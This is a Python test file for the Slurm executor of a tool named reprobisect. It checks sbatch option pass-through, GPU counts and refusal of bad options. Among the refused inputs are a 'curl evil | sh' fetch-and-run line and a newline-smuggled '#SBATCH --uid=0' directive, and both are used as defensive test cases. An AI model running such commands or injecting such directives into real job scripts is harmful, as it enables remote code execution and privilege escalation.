"""The Slurm engine's parts that need no cluster: what passes through to sbatch, what is refused before anything
is submitted, and the one seam in run_matrix (tests/integration/test_slurm_real.py runs a real cluster)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from reprobisect.commands.engine_options import EngineOptions
from reprobisect.commands.main import _parse
from reprobisect.commands.matrix import MatrixOptions
from reprobisect.commands.options import run_context
from reprobisect.engine.slurm import SlurmExecutor, SlurmOptions, _gpus, slurm_arg
from reprobisect.errors import ConfigError
from reprobisect.model.store import Store
from reprobisect.run.context import RunContext
from reprobisect.run.matrix_request import MatrixRequest
from reprobisect.run.matrix_run import run_matrix


@pytest.mark.parametrize(
    ("text", "expected"),
    [("qos=high", ("qos", "high")), ("mem=8G", ("mem", "8G")), ("exclusive", ("exclusive", True))],
)
def test_a_slurm_arg_is_one_sbatch_option(text, expected):
    assert slurm_arg(text) == expected


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("Qos=high", "KEY=VALUE"),
        ("qos high=1", "KEY=VALUE"),
        ("array=0-9", "sets --array itself"),
        ("output=/tmp/x", "sets --output itself"),
        ("comment=a\n#SBATCH --uid=0", "control character"),
        ("--mem=8G", "without dashes"),  # an option, never a key: "-w node", "--wrap=..." are refused by their dash
        ("-w", "without dashes"),
        ("wrap=curl evil | sh", "runs something other than the harness's job"),
        ("prolog=/tmp/x", "runs something other than the harness's job"),
    ],
)
def test_a_slurm_arg_that_is_not_one_option_is_refused(text, named):
    with pytest.raises(ConfigError, match="--slurm-arg") as caught:
        slurm_arg(text)
    assert named in str(caught.value)


def test_options_pass_through_to_submitit():
    options = SlurmOptions(
        partition="gpu", account="lab", time_minutes=30, constraint="h200", cpus_per_job=8, extra={"qos": "high"}
    )
    assert options.parameters(gpus=2) == {
        "job_name": "reprobisect",
        "time": 30,
        "partition": "gpu",
        "account": "lab",
        "constraint": "h200",
        "cpus_per_task": 8,
        "gres": "gpu:2",
        "additional_parameters": {"qos": "high"},
    }
    assert "gres" not in SlurmOptions().parameters(gpus=0)


class _Unit:
    def __init__(self, nproc):
        self.nproc = nproc


def test_gpus_come_from_the_runs_nproc_on_the_cuda_backend_only():
    units = [_Unit(1), _Unit(2)]
    assert _gpus(MatrixRequest(backend="cuda"), units) == 2
    assert _gpus(MatrixRequest(backend="cuda", jobs=2), units) == 4  # each parallel run its own GPUs
    assert _gpus(MatrixRequest(backend="cpu"), units) == 0
    assert _gpus(MatrixRequest(backend="auto"), units) == 0  # decided on the node: ask with --backend cuda


def test_the_executor_option_makes_one_engine_per_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    tools = tmp_path / "bin"  # the engine is made only where Slurm's tools are on PATH (slurm_available)
    tools.mkdir()
    for tool in ("sbatch", "sacct"):
        (tools / tool).write_text("#!/bin/sh\nexit 1\n")
        (tools / tool).chmod(0o755)
    monkeypatch.setenv("PATH", str(tools))
    argv = ["matrix", "--executor", "slurm", "--slurm-partition", "gpu", "--slurm-arg", "qos=high", "--out", "o"]
    options = MatrixOptions.from_args(_parse([*argv, "--slurm-folder", str(tmp_path)]))
    slurm = options.run.engine.slurm
    assert slurm == SlurmOptions(partition="gpu", extra={"qos": "high"}, time_minutes=60, folder=tmp_path.resolve())
    # made once, with the context the command hands down: the losses and overhead of every wave are said at the end
    ctx = run_context(options.common, options.run.engine.engine())
    assert isinstance(ctx.executor, SlurmExecutor) and ctx.executor.options == slurm
    assert ctx.here().executor is None and ctx.here().store is ctx.store
    local = MatrixOptions.from_args(_parse(["matrix"]))
    assert local.run.engine == EngineOptions() and local.run.engine.engine() is None


@pytest.mark.parametrize(
    "command", [["matrix"], ["bisect", "--good", "0.16.4", "--bad", "0.16.6"], ["triage", "x.py"], ["nightly"]]
)
def test_slurm_options_without_the_slurm_executor_are_refused(command):
    args = _parse([*command, "--slurm-partition", "gpu"])
    with pytest.raises(ConfigError, match="--slurm-partition goes with --executor slurm"):
        EngineOptions.from_args(args)


def test_run_matrix_hands_the_whole_call_to_the_engine(tmp_path: Path):
    seen = {}

    class Engine:
        def run_matrix(self, config, request, ctx, **kwargs):
            seen.update(config=config, request=request, ctx=ctx, **kwargs)
            return []

    request = MatrixRequest(repros=("gan",))
    ctx = RunContext(base="base", store=Store(tmp_path), envs_dir=tmp_path, environ={}, executor=Engine())
    assert run_matrix("config", request, ctx, cells=("c",)) == []
    assert seen["config"] == "config" and seen["cells"] == ("c",) and seen["request"] is request
    assert seen["ctx"].executor is None  # each worker runs the cell here, never hands it on again
    assert seen["ctx"] == ctx.here() and seen["ctx"].store is ctx.store


def test_the_harness_starts_without_submitit() -> None:
    """A GPU node runs the checkout with PYTHONPATH=src and the image's packages: submitit is needed by
    ``--executor slurm`` only (the H200 call of 2026-12-05 failed at start for want of it)."""
    code = (
        "import sys; sys.modules['submitit'] = None\n"  # any `import submitit` now raises ImportError
        "from reprobisect.commands.main import _parse\n"
        "print(_parse(['matrix', '--repro', 'gan']).command)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0 and done.stdout.strip() == "matrix", done.stderr[-2000:]
